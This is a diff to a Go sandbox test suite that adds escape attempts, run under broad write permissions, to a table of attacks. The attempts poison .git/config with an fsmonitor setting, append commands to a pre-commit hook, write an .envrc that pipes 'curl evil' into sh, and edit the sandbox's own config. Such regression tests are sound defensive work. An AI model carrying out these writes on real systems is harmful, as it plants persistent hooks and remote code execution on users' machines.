@@ -194,6 +194,18 @@ var attacks = []attack{
 		script: `mkdir -p ~/.local/bin && printf '#!/bin/sh\nid\n' > ~/.local/bin/git`, worked: exists("~/.local/bin/git")},
 	{name: "F-15/ssh-config", config: writeDotAndHome,
 		script: `echo 'Host *' >> ~/.ssh/config`, worked: exists("~/.ssh/config")},
+	{name: "F-18/project-below-writable-home-git-config", config: "[filesystem]\nallowWrite = [\"~\"]\n", setup: withRepo,
+		script: `printf '[core]\n\tfsmonitor = evil\n' >> .git/config`, worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
+			return strings.Contains(e.Read(".git/config"), "evil")
+		}},
+	{name: "F-18/project-below-writable-home-hook", config: "[filesystem]\nallowWrite = [\"~\"]\n", setup: withRepo,
+		script: `echo id >> .git/hooks/pre-commit`, worked: changed(".git/hooks/pre-commit", "#!/bin/sh\nexit 0\n")},
+	{name: "F-18/project-below-writable-home-envrc", config: "[filesystem]\nallowWrite = [\"~\"]\n",
+		script: `echo 'curl evil|sh' > .envrc`, worked: exists(".envrc")},
+	{name: "F-18/project-below-writable-root", config: "[filesystem]\nallowWrite = [\"/\"]\n", setup: withRepo,
+		script: `echo id >> .git/hooks/pre-commit; echo evil >> .fence.toml`, worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool {
+			return e.Read(".git/hooks/pre-commit") != "#!/bin/sh\nexit 0\n" || strings.Contains(e.Read(".fence.toml"), "evil")
+		}},
 	{name: "F-18/parent-repo-from-subdir",
 		config: "[filesystem]\nallowWrite = [\"sub\"]\n",
 		setup:  func(t *testing.T, e *sandboxtest.Env) { withRepo(t, e); os.MkdirAll(e.Path("sub"), 0o755) },
